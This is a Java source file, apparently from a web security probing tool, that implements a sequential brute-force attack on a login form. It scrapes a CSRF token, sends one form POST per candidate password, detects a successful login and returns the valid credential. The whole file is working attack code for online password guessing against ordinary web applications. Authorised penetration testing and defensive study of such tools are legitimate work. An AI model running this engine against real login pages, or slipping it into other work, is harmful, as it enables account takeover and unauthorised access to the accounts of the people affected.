package probe.bruteforce;

import probe.http.HttpClient;
import probe.model.HttpMethod;
import probe.model.ProbeRequest;
import probe.model.ProbeResponse;
import probe.model.ProbeResult;

import java.io.UncheckedIOException;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Optional;
import java.util.logging.Level;
import java.util.logging.Logger;

/**
 * Sequential credential brute-forcing against a login form.
 *
 * <p>Run lifecycle:
 * <ol>
 *   <li>{@code INIT}</li>
 *   <li>{@code CSRF_FETCH}, only when a CSRF field is configured: one GET of the login URL,
 *       token scraped with {@link CsrfTokenExtractor}. A missing token or a transport error
 *       leaves the run without a token; it does not stop it.</li>
 *   <li>{@code ITERATING}: one form POST per candidate password, in source order, one
 *       request in flight at a time.</li>
 *   <li>{@code SUCCESS} on the first attempt matching {@link LoginSuccessCriteria},
 *       {@code EXHAUSTED} when the source runs dry, {@code ABORTED} when the source
 *       cannot be read or the thread is interrupted.</li>
 * </ol>
 * Transport errors on an attempt are recorded and iteration continues. Nothing is retried.
 */
public final class BruteForceEngine {
    private static final Logger logger = Logger.getLogger(BruteForceEngine.class.getName());

    private final HttpClient httpClient;

    public BruteForceEngine(HttpClient httpClient) {
        this.httpClient = Objects.requireNonNull(httpClient, "httpClient cannot be null");
    }

    /**
     * Run the attack. The password source is consumed front to back at most once and is
     * not closed by this method.
     *
     * @param config    login form description and success indicators
     * @param passwords candidate passwords
     * @return terminal result
     */
    public BruteForceResult run(BruteForceConfig config, PasswordSource passwords) {
        Objects.requireNonNull(config, "config cannot be null");
        Objects.requireNonNull(passwords, "passwords cannot be null");

        RunState run = new RunState(config);
        logger.info("Starting brute-force run against " + config.getLoginUrl() +
                    " for user '" + config.getUsername() + "'");

        String csrfToken = null;
        if (config.getCsrfField().isPresent()) {
            run.transition(BruteForceState.CSRF_FETCH);
            csrfToken = fetchCsrfToken(config, run).orElse(null);
        }

        run.transition(BruteForceState.ITERATING);
        LoginSuccessCriteria criteria = config.getSuccessCriteria();

        try {
            while (passwords.hasNext()) {
                String password = passwords.next();

                if (!run.attempts.isEmpty() && config.getRequestDelayMs() > 0) {
                    Thread.sleep(config.getRequestDelayMs());
                }

                LoginAttempt attempt = attempt(config, password, csrfToken, criteria, run.attempts.size() + 1);
                run.requestCount++;
                run.attempts.add(attempt);
                notifySafely(() -> config.getProgressListener().onAttempt(attempt));

                if (attempt.success()) {
                    logger.info("Valid credential found for '" + config.getUsername() + "' after " +
                                attempt.number() + " attempt(s)");
                    Credential credential = new Credential(config.getUsername(), password, attempt.result());
                    return run.finish(BruteForceState.SUCCESS, csrfToken, credential, null);
                }
            }
        } catch (UncheckedIOException e) {
            logger.log(Level.WARNING, "Password source failed after " + run.attempts.size() + " attempt(s)", e);
            return run.finish(BruteForceState.ABORTED, csrfToken, null,
                "Password source failed (" + passwords.getDescription() + "): " + e.getCause().getMessage());
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            logger.warning("Brute-force run interrupted after " + run.attempts.size() + " attempt(s)");
            return run.finish(BruteForceState.ABORTED, csrfToken, null,
                "Interrupted after " + run.attempts.size() + " attempt(s) against " + config.getLoginUrl());
        }

        logger.info("Password source exhausted after " + run.attempts.size() + " attempt(s), no credential found");
        return run.finish(BruteForceState.EXHAUSTED, csrfToken, null, null);
    }

    private Optional<String> fetchCsrfToken(BruteForceConfig config, RunState run) {
        String field = config.getCsrfField().get();
        ProbeRequest request = ProbeRequest.builder()
            .url(config.getLoginUrl())
            .method(HttpMethod.GET)
            .headers(config.getHeaders())
            .build();

        ProbeResult result = send(request);
        run.requestCount++;

        if (result.isFailed()) {
            logger.warning("CSRF page fetch failed, continuing without token: " + result.getError().orElse(""));
            return Optional.empty();
        }

        Optional<String> token = CsrfTokenExtractor.extract(result.getBody(), field);
        if (token.isPresent()) {
            logger.fine("Extracted CSRF token from field '" + field + "'");
        } else {
            logger.warning("CSRF field '" + field + "' not found on " + config.getLoginUrl() +
                           ", continuing without token");
        }
        return token;
    }

    private LoginAttempt attempt(BruteForceConfig config, String password, String csrfToken,
                                 LoginSuccessCriteria criteria, int number) {
        Map<String, String> form = new LinkedHashMap<>();
        form.put(config.getUsernameField(), config.getUsername());
        form.put(config.getPasswordField(), password);
        if (config.getCsrfField().isPresent() && csrfToken != null) {
            form.put(config.getCsrfField().get(), csrfToken);
        }

        ProbeRequest request = ProbeRequest.builder()
            .url(config.getLoginUrl())
            .method(HttpMethod.POST)
            .headers(config.getHeaders())
            .formFields(form)
            .build();

        ProbeResult result = send(request);
        if (result.isFailed()) {
            logger.fine("Attempt #" + number + " (password '" + password + "') failed: " +
                        result.getError().orElse(""));
            return new LoginAttempt(number, password, result, false);
        }
        return new LoginAttempt(number, password, result, criteria.isSuccess(result));
    }

    private ProbeResult send(ProbeRequest request) {
        long start = System.nanoTime();
        try {
            ProbeResponse response = httpClient.execute(request);
            return ProbeResult.from(request, response, elapsedSince(start));
        } catch (RuntimeException e) {
            logger.log(Level.FINE, "Client threw for " + request, e);
            return ProbeResult.failed(request, request + " failed - " + e, elapsedSince(start));
        }
    }

    private static double elapsedSince(long startNanos) {
        return (System.nanoTime() - startNanos) / 1_000_000.0;
    }

    private static void notifySafely(Runnable notification) {
        try {
            notification.run();
        } catch (RuntimeException e) {
            logger.log(Level.WARNING, "Progress listener failed: " + e.getMessage(), e);
        }
    }

    /**
     * Mutable bookkeeping for one run.
     */
    private static final class RunState {
        private final BruteForceConfig config;
        private final Instant startTime = Instant.now();
        private final List<LoginAttempt> attempts = new ArrayList<>();
        private BruteForceState state = BruteForceState.INIT;
        private int requestCount;

        private RunState(BruteForceConfig config) {
            this.config = config;
        }

        private void transition(BruteForceState next) {
            BruteForceState previous = state;
            state = next;
            logger.fine("Brute-force state " + previous + " -> " + next);
            notifySafely(() -> config.getProgressListener().onStateChange(previous, next));
        }

        private BruteForceResult finish(BruteForceState terminal, String csrfToken,
                                        Credential credential, String errorMessage) {
            transition(terminal);
            return BruteForceResult.builder()
                .loginUrl(config.getLoginUrl())
                .username(config.getUsername())
                .state(terminal)
                .credential(credential)
                .attempts(attempts)
                .csrfToken(csrfToken)
                .csrfRequested(config.getCsrfField().isPresent())
                .requestCount(requestCount)
                .errorMessage(errorMessage)
                .startTime(startTime)
                .endTime(Instant.now())
                .build();
        }
    }
}
